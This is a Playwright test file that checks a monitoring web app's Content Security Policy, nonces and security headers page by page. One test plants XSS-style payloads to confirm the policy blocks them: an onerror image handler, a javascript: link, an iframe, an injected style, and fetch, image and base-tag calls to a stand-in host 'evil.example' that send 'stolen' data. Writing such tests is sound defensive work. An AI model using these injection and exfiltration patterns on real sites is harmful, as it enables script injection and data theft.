import { expect, type Page } from "@playwright/test";
import { startSimulator } from "../lib/simulator/index.ts";
import { pathOf } from "./support/page-paths.ts";
import { seeLive } from "./support/see-live.ts";
import { fetchSigned } from "./support/sessions.ts";
import { startApp } from "./support/start-app.ts";
import type { WatchedFloor } from "./support/start-floor.ts";
import { test } from "./support/test.ts";
import { watchViolations } from "./support/watch-violations.ts";

const pages = [
  "/",
  "/services",
  pathOf("services", "SAC_Digital"),
  "/agents",
  "/agents?as=cards",
  pathOf("agents", "007"),
  "/alarms",
  "/alarms?tab=rules",
  "/alarms?tab=thresholds",
  "/chats",
  "/chats/services",
  "/admin/people",
  "/admin/keys",
  "/account",
  "/nowhere",
  pathOf("services", "nobody"),
];

const files = ["/api/floor", "/api/nothing", "/healthz", "/readyz", "/metrics", "/icon.svg"];

test.describe("what a browser is told it may do", () => {
  let floor: WatchedFloor;
  let url: string;

  test.beforeAll(({ sharedFloor }) => {
    floor = sharedFloor;
    url = floor.app.url;
  });

  test.describe("page by page", () => {
    // One browser for all of them, which reads the scripts of the app once.
    let page: Page;
    let violations: readonly string[];

    test.beforeAll(async ({ browser }) => {
      page = await browser.newPage();
      violations = await watchViolations(page);
      await page.emulateMedia({ reducedMotion: "reduce" });
    });
    test.afterAll(() => page?.close());
    // What was chosen on one page is not there on the next.
    test.afterEach(() => page.evaluate(() => localStorage.clear()));

    for (const path of pages)
      test(`is all that ${path} does, whatever is opened there`, async () => {
        const before = violations.length;
        await page.goto(`${url}${path}`);
        if (path !== "/nowhere") await seeLive(page);
        await openEverything(page);
        expect(violations.slice(before)).toEqual([]);
      });
  });

  test("is enough for charts, menus, dialogs, help, palette, files and another language", async ({
    page,
  }) => {
    const violations = await watchViolations(page);
    await page.emulateMedia({ reducedMotion: "reduce" });
    await page.goto(`${url}${pathOf("services", "SAC_Digital")}`);
    await seeLive(page);
    await expect(page.locator("svg.recharts-surface").first()).toBeVisible();
    await page.keyboard.press("?");
    await expect(page.getByRole("dialog", { name: "Keyboard shortcuts" })).toBeVisible();
    await page.keyboard.press("Escape");
    await page.keyboard.press("Control+k");
    await page.keyboard.type("agents");
    await page.keyboard.press("Enter");
    await expect(page.getByRole("heading", { level: 1, name: "Agents" })).toBeVisible();
    await page.getByRole("button", { name: "Export" }).click();
    const download = page.waitForEvent("download");
    await page.getByRole("menuitem").first().click();
    expect((await download).suggestedFilename()).toMatch(/\.csv$/);
    await page.goto(`${url}/alarms?tab=rules`);
    await page.getByRole("button", { name: "New rule" }).click();
    await expect(page.getByRole("dialog", { name: "New rule" })).toBeVisible();
    await page.keyboard.press("Escape");
    expect(violations).toEqual([]);
  });

  test("lets the chosen theme be there before the first paint", async ({ page }) => {
    const violations = await watchViolations(page);
    await page.addInitScript(() => localStorage.setItem("mirante-theme", "dark"));
    await page.goto(url, { waitUntil: "commit" });
    await expect(page.locator("html")).toHaveAttribute("data-theme", "dark");
    await page.waitForLoadState("domcontentloaded");
    const background = await page.evaluate(() => getComputedStyle(document.documentElement).backgroundColor);
    expect(background).not.toBe("rgba(0, 0, 0, 0)");
    expect(violations).toEqual([]);
  });

  test("keeps scripts, handlers, frames, forms and requests of others out", async ({ page }) => {
    const violations = await watchViolations(page);
    await page.goto(url);
    await seeLive(page);
    await page.evaluate(async () => {
      const marks = globalThis as { planted?: boolean };
      marks.planted = false;
      const box = document.body.appendChild(document.createElement("div"));
      box.innerHTML = '<img src="x" onerror="globalThis.planted = true">';
      box.insertAdjacentHTML(
        "beforeend",
        '<style>body { opacity: 0.5 }</style><iframe src="/agents"></iframe>',
      );
      const link = document.createElement("a");
      link.href = "javascript:void (globalThis.planted = true)";
      document.body.append(link);
      link.click();
      await fetch("https://evil.example/?stolen").catch(() => undefined);
      const picture = new Image();
      picture.src = "https://evil.example/stolen.png";
      const base = document.createElement("base");
      base.href = "https://evil.example/";
      document.head.append(base);
    });
    for (const directive of [
      "script-src-attr",
      "script-src-elem",
      "style-src-elem",
      "frame-src",
      "connect-src",
      "img-src",
      "base-uri",
    ])
      await expect.poll(() => violations.join("\n"), { message: directive }).toContain(`${directive} of /`);
    expect(await page.evaluate(() => (globalThis as { planted?: boolean }).planted)).toBe(false);
    expect(await page.evaluate(() => getComputedStyle(document.body).opacity)).toBe("1");
  });

  test("has a nonce of its own in each answer, which every script of it carries", async () => {
    const nonces = new Set<string>();
    for (const path of [...pages, "/"]) {
      const answer = await fetchSigned(`${url}${path}`);
      const policy = answer.headers.get("content-security-policy") ?? "";
      const nonce = /'nonce-([^']+)'/.exec(policy)?.[1] ?? "";
      nonces.add(nonce);
      const scripts = (await answer.text()).match(/<script\b[^>]*>/g) ?? [];
      expect(scripts.length, path).toBeGreaterThan(2);
      for (const script of scripts) expect(script, path).toContain(`nonce="${nonce}"`);
      expect(policy).not.toMatch(/unsafe-eval|script-src[^;]*unsafe-inline|https?:/);
      expect(answer.headers.get("cache-control"), path).toContain("no-store");
    }
    expect(nonces.size).toBe(pages.length + 1);
  });

  test("is nothing at all where no page is", async () => {
    const page = await (await fetchSigned(url)).text();
    const script = /\bsrc="(\/_next\/static\/[^"]+\.js)/.exec(page)?.[1] ?? "no script";
    for (const path of [...files, script]) {
      const { headers } = await fetchSigned(`${url}${path}`);
      expect(headers.get("content-security-policy"), path).toBe(
        "default-src 'none'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'",
      );
    }
  });

  test("stands with the other headers in every answer, refusals and faults included", async () => {
    for (const path of [...pages, ...files, "/_next/static/nothing.js", "/api/trends", "/%", "/api/stream"]) {
      const cut = new AbortController();
      const { headers } = await fetchSigned(`${url}${path}`, { signal: cut.signal });
      cut.abort();
      expect(Object.fromEntries(headers), path).toMatchObject({
        "content-security-policy": expect.stringContaining("frame-ancestors 'none'"),
        "x-content-type-options": "nosniff",
        "x-frame-options": "DENY",
        "referrer-policy": "no-referrer",
        "cross-origin-opener-policy": "same-origin",
        "cross-origin-resource-policy": "same-origin",
        "permissions-policy": expect.stringContaining("camera=()"),
      });
      expect(headers.get("x-powered-by"), path).toBeNull();
      expect(headers.get("strict-transport-security"), path).toBeNull();
    }
  });
});

test("browsers are held to https where people come by it", async () => {
  const cti = await startSimulator({ agents: 5, services: 1 });
  const app = await startApp({
    CTI_URL: cti.url,
    PUBLIC_URL: "https://mirante.example.com",
    LOG_LEVEL: "warn",
  });
  const { headers } = await fetch(app.url);
  expect(headers.get("strict-transport-security")).toBe("max-age=31536000");
  await app.stop();
  await cti.close();
});

/** Points at and presses each kind of button once, and closes what that opened. */
async function openEverything(page: Page): Promise<void> {
  const address = page.url();
  const { pathname } = new URL(address);
  const buttons = page.locator("button:enabled:visible, [role=tab]:visible, summary:visible");
  const names = await buttons.evaluateAll((all) =>
    all.map((each) => each.ariaLabel ?? each.textContent ?? ""),
  );
  const seen = new Set<string>();
  for (const [index, name] of names.entries()) {
    const kind = name.replace(/\d+/g, "#").trim();
    if (seen.has(kind) || seen.size >= 15) continue;
    seen.add(kind);
    const button = buttons.nth(index);
    if (!(await button.isVisible().catch(() => false))) continue;
    await button.hover({ timeout: 1000 }).catch(() => undefined);
    await button.click({ timeout: 1000 }).catch(() => undefined);
    await page.keyboard.press("Escape");
    if (new URL(page.url()).pathname !== pathname) {
      await page.goto(address);
      await expect(buttons.first()).toBeVisible();
    }
  }
  if (names.length > 0) expect(seen.size).toBeGreaterThan(0);
}
